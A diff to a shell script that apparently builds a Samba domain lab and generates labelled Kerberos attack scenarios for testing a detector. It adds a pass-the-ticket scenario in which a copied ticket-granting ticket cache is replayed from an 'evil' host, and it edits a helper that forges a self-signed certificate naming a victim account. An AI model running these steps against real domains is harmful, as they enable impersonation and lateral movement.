@@ -25,6 +25,8 @@ led() { cp "$RUN/hosts.ws1" "/etc/netns/${NS}ws1/hosts"; }
 # The web server's account, so that tickets for it exist
 web_account() {
   in_host dc1 samba-tool computer create "$CA_NAME" -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || return 0
+  in_host dc1 samba-tool user setpassword "${CA_NAME^^}\$" --newpassword="$(openssl rand -hex 16)-A" \
+    -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || true
   local service
   for service in HTTP cifs HOST; do
     in_host dc1 samba-tool spn add "$service/$CA_FQDN" "${CA_NAME^^}\$" -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || true
@@ -151,11 +153,21 @@ scenario_krb_misplaced_http() {
 scenario_krb_ticket_elsewhere() {
   record krb_ticket_elsewhere
   ticket_of "$ALICE" "$ALICE_PW" ws1
+  with_ticket ws1 kvno "cifs/$FILES_FQDN"
   krb_smb "$FILES_FQDN"
   cp "$RUN/ws1.ccache" "$RUN/evil.ccache"
   with_ticket evil smbclient "//$FILES_FQDN/share" --use-kerberos=required --use-krb5-ccache="$RUN/evil.ccache" -c ls
   truth "${KRB[@]}" target=$FILES expect=krb-misplaced:smb "$KRB_TOOLS" \
-    notes="A copied ticket cache: the same ticket, with new authenticators, from a host that never asked for it."
+    notes="A copied ticket cache: the ticket that the workstation got is shown to the same server, with new authenticators, by a host that never asked for it."
+}
+
+scenario_krb_tgt_elsewhere() {
+  record krb_tgt_elsewhere
+  ticket_of "$ALICE" "$ALICE_PW" ws1
+  cp "$RUN/ws1.ccache" "$RUN/evil.ccache"
+  with_ticket evil smbclient "//$FILES_FQDN/share" --use-kerberos=required --use-krb5-ccache="$RUN/evil.ccache" -c ls
+  truth "${KRB[@]}" target=$FILES expect=krb-misplaced:kerberos "$KRB_TOOLS" \
+    notes="Only the ticket-granting ticket is copied: it was given to the workstation, and another host asks for service tickets with it."
 }
 
 # What follows: a certificate or a key of the victim's, used from the attacker's host
@@ -165,7 +177,8 @@ FOLLOW=(malicious=yes attacker=$EVIL victim=$SRV family=kerberos)
 
 certificate_for() { # account host: a certificate nobody vouches for, in $RUN/loot
   mkdir -p "$RUN/loot"
-  openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj "/CN=$1" -addext "subjectAltName=otherName:1.3.6.1.4.1.311.20.2.3;UTF8:$1@$DNS_DOMAIN" \
+  local name="1.3.6.1.4.1.311.20.2.3;UTF8:${1//\$/\\$}@$DNS_DOMAIN"
+  openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj "/CN=$1" -addext "subjectAltName=otherName:$name" \
     -keyout "$RUN/loot/$2.key" -out "$RUN/loot/$2.crt" 2> /dev/null
   openssl pkcs12 -export -passout pass: -inkey "$RUN/loot/$2.key" -in "$RUN/loot/$2.crt" -out "$RUN/loot/$2.pfx"
 }
